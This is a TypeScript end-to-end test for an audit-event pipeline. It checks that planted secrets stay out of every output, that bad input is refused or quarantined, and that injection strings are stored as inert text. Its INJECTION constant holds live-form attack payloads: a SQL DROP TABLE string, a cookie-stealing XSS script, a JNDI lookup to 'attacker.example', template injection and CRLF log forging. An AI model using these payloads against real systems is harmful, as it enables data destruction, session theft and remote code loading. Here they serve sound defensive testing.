/**
 * End to end (issue 8, SPEC R2): every pipeline service as its own process on the real servers
 * and the real topics, fed through the SDK and the HTTP gateway, with secrets planted and bad
 * input in the middle. One run's events carry a tenant of their own, so the assertions see only
 * them even on a stack that has carried other traffic.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { closeSync, mkdtempSync, openSync, readdirSync, readFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { gunzipSync } from 'node:zlib';
import { parseObjectKey, readTopicSince } from '@auditflow/archive';
import { type AuditEventInput, HEADERS, TOPICS } from '@auditflow/schemas';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PIPELINE } from '../../infra/cli/src/pipeline.ts';
import { SseClient } from '../integration/streamer/sse-client.ts';
import { ARCHIVE_SIGNING_KEY_ENV, testArchiveStore } from '../support/archive.ts';
import { runCli } from '../support/cli.ts';
import { createTopicsAndSchemas, rawTopicProducer } from '../support/e2e-setup.ts';
import { elasticsearchClient, endpoints, kafkaClient, registryClient, unique } from '../support/endpoints.ts';
import { sampleEvent } from '../support/events.ts';
import { forbiddenFragments, ORDINARY_VALUES, secretEvents } from '../support/secret-corpus.ts';

const REPO = new URL('../../', import.meta.url).pathname;

/**
 * What `auditflow up` runs, minus the query API, on ports of their own so a developer's
 * `auditflow up` on the usual ones does not collide.
 */
const E2E_PORTS: Record<string, { port: number; portEnv: string }> = {
  sanitizer: { port: 18071, portEnv: 'AUDITFLOW_HEALTH_PORT' },
  enricher: { port: 18072, portEnv: 'AUDITFLOW_HEALTH_PORT' },
  indexer: { port: 18073, portEnv: 'AUDITFLOW_HEALTH_PORT' },
  archiver: { port: 18074, portEnv: 'AUDITFLOW_HEALTH_PORT' },
  streamer: { port: 18090, portEnv: 'AUDITFLOW_STREAM_PORT' },
  gateway: { port: 18070, portEnv: 'AUDITFLOW_GATEWAY_PORT' },
};
const SERVICES = PIPELINE.flatMap((s) => {
  const own = E2E_PORTS[s.name];
  return own ? [{ name: s.name, entry: s.entry, ...own }] : [];
});
if (SERVICES.length !== Object.keys(E2E_PORTS).length)
  throw new Error(`the e2e test expects ${Object.keys(E2E_PORTS)} among auditflow up's services`);

const INJECTION = {
  sql: "x'; DROP TABLE audit_events; --",
  html: '<script>alert(document.cookie)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's payload, literal on purpose
  jndi: '${jndi:ldap://attacker.example/a}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's payload, literal on purpose
  template: '{{7*7}} ${7*7} #{7*7}',
  esQuery: '{"query":{"match_all":{}}} OR 1=1',
  newline: 'line one\r\nforged: log line',
} as const;

const tenant = `e2e-${randomBytes(4).toString('hex')}`;
const logs = mkdtempSync(join(tmpdir(), 'e2e-logs-'));
const archivePrefix = `${unique('e2e-archive')}/`;
const gatewayToken = randomBytes(24).toString('hex');
const streamToken = randomBytes(24).toString('hex');
const children: ChildProcess[] = [];

function serviceEnv(): NodeJS.ProcessEnv {
  return {
    ...process.env,
    ...endpoints(),
    AUDITFLOW_GATEWAY_TOKEN: gatewayToken,
    AUDITFLOW_STREAM_TOKEN: streamToken,
    AUDITFLOW_PSEUDONYM_KEY: randomBytes(32).toString('hex'),
    AUDITFLOW_REDACTION_KEY: randomBytes(32).toString('hex'),
    AUDITFLOW_ARCHIVE_SIGNING_KEY: ARCHIVE_SIGNING_KEY_ENV,
    AUDITFLOW_ARCHIVE_PREFIX: archivePrefix,
    AUDITFLOW_ARCHIVE_ROLL_SECONDS: '3',
    // The SDK's own limit: anything bigger came from a foreign producer and is dead-lettered.
    AUDITFLOW_MAX_EVENT_BYTES: '900000',
  };
}

async function startServices(): Promise<void> {
  const env = serviceEnv();
  for (const s of SERVICES) {
    const log = openSync(join(logs, `${s.name}.log`), 'a');
    const child = spawn(process.execPath, [s.entry], {
      cwd: REPO,
      env: {
        ...env,
        [s.portEnv]: String(s.port),
        AUDITFLOW_INSTANCE_ID: `e2e-${s.name}`,
        // A spool is one process's (it holds a lock): the gateway's and the archiver's heads'.
        AUDITFLOW_SPOOL_DIR: mkdtempSync(join(tmpdir(), `e2e-spool-${s.name}-`)),
      },
      stdio: ['ignore', log, log],
    });
    closeSync(log);
    children.push(child);
  }
  const deadline = Date.now() + 180_000;
  for (const [i, s] of SERVICES.entries()) {
    for (;;) {
      if (children[i]?.exitCode !== null)
        throw new Error(
          `${s.name} exited: ${readFileSync(join(logs, `${s.name}.log`), 'utf8').slice(-2000)}`,
        );
      const ok = await fetch(`http://127.0.0.1:${s.port}/readyz`, { signal: AbortSignal.timeout(2000) })
        .then((r) => r.ok)
        .catch(() => false);
      if (ok) break;
      if (Date.now() > deadline) throw new Error(`${s.name} not ready within 180 s`);
      await sleep(500);
    }
  }
}

/** Graceful stop (SIGTERM), as an operator would: services drain, flush and commit. */
async function stopServices(): Promise<void> {
  await Promise.all(
    children.map(
      (child) =>
        new Promise<void>((resolve) => {
          if (child.exitCode !== null) return resolve();
          const timer = setTimeout(() => child.kill('SIGKILL'), 30_000);
          child.once('exit', () => {
            clearTimeout(timer);
            resolve();
          });
          child.kill('SIGTERM');
        }),
    ),
  );
}

const cli = (args: string[]) => runCli(args, serviceEnv());

/**
 * POSTs to the gateway with node:http. A gateway refusing an oversized body answers 413 from
 * the declared length and closes: a client still writing would see EPIPE (fetch fails), so a
 * large body is declared in full but only its start is sent until the answer arrives.
 */
function post(body: string | Buffer): Promise<{ status: number; json: Record<string, unknown> }> {
  return new Promise((resolve, reject) => {
    let answered = false;
    const req = request(
      'http://127.0.0.1:18070/v1/events',
      {
        method: 'POST',
        headers: {
          authorization: `Bearer ${gatewayToken}`,
          'content-type': 'application/json',
          'content-length': Buffer.byteLength(body),
        },
      },
      (res) => {
        answered = true;
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            json: JSON.parse(Buffer.concat(chunks).toString() || '{}'),
          }),
        );
        res.on('error', reject);
      },
    );
    req.on('error', (err) => {
      if (!answered) reject(err);
    });
    const bytes = Buffer.from(body);
    if (bytes.length > 1_048_576) req.write(bytes.subarray(0, 65_536));
    else req.end(bytes);
  });
}

const nest = (depth: number): unknown => {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = { n: value };
  return value;
};

describe('the whole pipeline, end to end (real Kafka, registry, Elasticsearch, S3; every service a process)', () => {
  const started = Date.now() - 60_000;
  const actions = new Map<string, string>(); // event id -> action, for every accepted event
  const rejected: Record<string, { status: number; json: Record<string, unknown> }> = {};
  let sdkRejection = '';
  let subscriber: SseClient;
  const es = elasticsearchClient();

  beforeAll(async () => {
    // What `auditflow up` does first; a fresh stack has neither the pipeline topics nor the subjects.
    await createTopicsAndSchemas(serviceEnv());
    await startServices();
    subscriber = await SseClient.open(
      `http://127.0.0.1:18090/v1/stream?tenant_id=${tenant}&action=git.*`,
      streamToken,
    );
    expect(subscriber.status).toBe(200);

    // 1. Through the SDK: secrets planted in every place the sanitizer knows, ordinary events, injection strings.
    const producer = rawTopicProducer('e2e-sdk-spool-');
    const sdkEvents: AuditEventInput[] = [
      ...secretEvents(tenant),
      ...Array.from({ length: 60 }, (_, i) => sampleEvent(i, { tenant_id: tenant })),
      sampleEvent(1000, {
        tenant_id: tenant,
        target: { type: 'query', id: 'q-1', name: INJECTION.sql },
        details: { ...INJECTION },
      }),
    ];
    for (const e of sdkEvents) actions.set(producer.emit(e).id, e.action);
    try {
      producer.emit(
        sampleEvent(1001, { tenant_id: tenant, details: nest(10_000) as Record<string, unknown> }),
      );
    } catch (err) {
      sdkRejection = (err as Error).message;
    }
    await producer.close(60_000);

    // 2. Bad input straight onto the raw topic, between the good traffic.
    const schemaId = await registryClient().getLatestSchemaId(`${TOPICS.raw}-value`);
    const header = (id: number) => {
      const h = Buffer.alloc(5);
      h.writeInt32BE(id, 1);
      return h;
    };
    const marker = (what: string) => Buffer.from(`e2e-bad-${tenant}-${what}`);
    const raw = kafkaClient('e2e-bad').producer();
    await raw.connect();
    await raw.send({
      topic: TOPICS.raw,
      messages: [
        { value: Buffer.concat([Buffer.from([0x7b]), marker('magic')]) },
        { value: Buffer.concat([header(987_654_321), marker('unknown-id')]) },
        { value: Buffer.concat([header(schemaId), marker('corrupt'), Buffer.from([0xff, 0xfe, 0x01])]) },
        { value: Buffer.concat([header(schemaId), marker('oversized'), Buffer.alloc(950_000, 0x41)]) },
      ],
    });
    await raw.disconnect();

    // 3. Through the gateway: a good batch with secrets, and bad requests that must be refused clearly.
    const gatewayEvents = [
      ...secretEvents(tenant).slice(0, 3),
      ...Array.from({ length: 40 }, (_, i) => sampleEvent(2000 + i, { tenant_id: tenant })),
    ];
    const accepted = await post(JSON.stringify(gatewayEvents));
    expect(accepted.status, JSON.stringify(accepted.json)).toBe(202);
    (accepted.json.ids as string[]).forEach((id, i) => {
      actions.set(id, gatewayEvents[i]?.action as string);
    });
    rejected.utf8 = await post(
      Buffer.concat([
        Buffer.from('[{"action":"git.push","tenant_id":"'),
        Buffer.from([0xc3, 0x28]),
        Buffer.from('"}]'),
      ]),
    );
    // Written as text: JSON.stringify itself would overflow the stack at this depth.
    const deep = `${'{"n":'.repeat(10_000)}"bottom"${'}'.repeat(10_000)}`;
    rejected.deep = await post(
      JSON.stringify(sampleEvent(3000, { tenant_id: tenant, details: { placeholder: 1 } })).replace(
        '{"placeholder":1}',
        deep,
      ),
    );
    rejected.oversized = await post(
      JSON.stringify(sampleEvent(3001, { tenant_id: tenant, details: { blob: 'A'.repeat(5 * 1_048_576) } })),
    );
    rejected.badAction = await post(
      JSON.stringify(sampleEvent(3002, { tenant_id: tenant, action: INJECTION.sql })),
    );
  }, 360_000);

  afterAll(async () => {
    subscriber?.close();
    await stopServices();
    await es.close();
  });

  const total = () => actions.size;

  it('refuses bad input at the edges with an error naming the field and the rule', () => {
    expect(sdkRejection).toMatch(/details/);
    expect(sdkRejection).toMatch(/max_depth|deeper/);
    expect(rejected.utf8).toMatchObject({ status: 400, json: { error: 'invalid_utf8' } });
    expect(rejected.deep?.status).toBe(400);
    expect(JSON.stringify(rejected.deep?.json)).toMatch(/details.*max_depth|max_depth.*details/);
    expect(rejected.oversized?.status).toBe(413);
    expect(rejected.badAction?.status).toBe(400);
    expect(JSON.stringify(rejected.badAction?.json)).toMatch(/action/);
  });

  it('quarantines the bad raw records with their reasons (never the DLQ) while the rest flows', async () => {
    const ours = (m: { message: { value: Buffer | null } }) =>
      (m.message.value as Buffer).includes(`e2e-bad-${tenant}-`);
    const deadline = Date.now() + 90_000;
    const kafka = kafkaClient('e2e-dlq');
    let marked = (await readTopicSince(kafka, TOPICS.quarantine, started)).filter(ours);
    while (marked.length < 4 && Date.now() < deadline) {
      await sleep(2000);
      marked = (await readTopicSince(kafka, TOPICS.quarantine, started)).filter(ours);
    }
    // Raw bytes stay out of the DLQ analysts read (S4).
    expect((await readTopicSince(kafka, TOPICS.dlq, started)).filter(ours)).toEqual([]);
    const reasons = Object.fromEntries(
      marked.map((m) => [
        /e2e-bad-[^-]+-[^-]+-([a-z-]+)/.exec((m.message.value as Buffer).toString('latin1'))?.[1],
        m.message.headers?.[HEADERS.reason]?.toString(),
      ]),
    );
    expect(reasons).toEqual({
      magic: 'wrong_magic_byte',
      'unknown-id': 'unknown_schema_id',
      corrupt: 'corrupt_avro',
      oversized: 'oversized',
    });
  }, 120_000);

  it('indexes every accepted event exactly once, injection strings kept as inert text', async () => {
    const query = { term: { 'organization.id': tenant } };
    const deadline = Date.now() + 120_000;
    let count = 0;
    while (Date.now() < deadline) {
      await es.indices.refresh({ index: 'audit-events*' }).catch(() => {});
      count = (await es.count({ index: 'audit-events*', query })).count;
      if (count >= total()) break;
      await sleep(1000);
    }
    expect(count).toBe(total());
    const hits = await es.search({ index: 'audit-events*', size: total() + 10, query });
    const ids = hits.hits.hits.map((h) => h._id);
    expect(new Set(ids)).toEqual(new Set(actions.keys()));
    const sources = JSON.stringify(hits.hits.hits.map((h) => h._source));
    expect(sources).toContain(JSON.stringify(INJECTION.sql).slice(1, -1));
    expect(sources).toContain(JSON.stringify(INJECTION.jndi).slice(1, -1));
    expect(sources).toContain(ORDINARY_VALUES.commitSha);
    expect(forbiddenFragments().filter((f) => sources.includes(f))).toEqual([]);
  }, 180_000);

  it('archives every accepted event exactly once; verify passes and reconcile finds no gap', async () => {
    const store = testArchiveStore(archivePrefix);
    const deadline = Date.now() + 120_000;
    let lines: string[] = [];
    while (Date.now() < deadline) {
      lines = [];
      for (const { key } of await store.list(`tenant=${tenant}/`)) {
        if (!parseObjectKey(key)) continue;
        lines.push(
          ...gunzipSync(await store.get(key))
            .toString('utf8')
            .split('\n')
            .filter(Boolean),
        );
      }
      if (lines.length >= total()) break;
      await sleep(1000);
    }
    const archivedIds = lines.map((l) => (JSON.parse(l) as { id: string }).id);
    expect(archivedIds).toHaveLength(total());
    expect(new Set(archivedIds)).toEqual(new Set(actions.keys()));
    const archive = lines.join('\n');
    expect(forbiddenFragments().filter((f) => archive.includes(f))).toEqual([]);

    const verified = await cli(['verify', '--tenant', tenant]);
    expect(verified.stdout, verified.stderr).toContain('archive verified: no problems');
    expect(verified.code).toBe(0);

    const reconciled = await cli([
      'reconcile',
      '--from',
      new Date(started).toISOString(),
      '--to',
      new Date(Date.now() + 60_000).toISOString(),
      '--tenant',
      tenant,
      '--json',
    ]);
    const report = JSON.parse(reconciled.stdout.trim().split('\n').at(-1) as string);
    expect(report.gaps).toEqual([]);
    expect(report.counts).toMatchObject({ clean: total(), indexed: total(), archived: total() });
    expect(reconciled.code).toBe(0);
  }, 240_000);

  it('delivers exactly the matching events to a filtered live subscriber, with no secret', async () => {
    const expected = [...actions].filter(([, action]) => action.startsWith('git.')).map(([id]) => id);
    expect(expected.length).toBeGreaterThan(10);
    await subscriber.until(() => subscriber.events.length >= expected.length, 90_000, 'the git.* events');
    await sleep(2000); // duplicates or strays would show by now
    const got = subscriber.events.map((e) => e.event);
    expect(got.every((e) => e.tenant_id === tenant && e.action.startsWith('git.'))).toBe(true);
    expect(got.map((e) => e.id).sort()).toEqual(expected.sort());
    const frames = subscriber.frames.map((f) => f.data).join('\n');
    expect(forbiddenFragments().filter((f) => frames.includes(f))).toEqual([]);
  }, 120_000);

  it('lets no planted secret reach the clean topic or any service log', async () => {
    const clean = (await readTopicSince(kafkaClient('e2e-clean'), TOPICS.clean, started)).map((m) =>
      (m.message.value as Buffer).toString('latin1'),
    );
    const ours = clean.filter((v) => v.includes(tenant));
    expect(ours.length).toBe(total());
    const bytes = ours.join('\n');
    expect(forbiddenFragments().filter((f) => bytes.includes(f))).toEqual([]);

    await stopServices(); // flushes the logs, and shows shutdown is clean
    const forbidden = [...forbiddenFragments(), gatewayToken, streamToken, ARCHIVE_SIGNING_KEY_ENV];
    for (const file of readdirSync(logs)) {
      const text = readFileSync(join(logs, file), 'utf8');
      expect(text.length, file).toBeGreaterThan(0);
      expect(
        forbidden.filter((f) => text.includes(f)),
        file,
      ).toEqual([]);
    }
  }, 120_000);
});
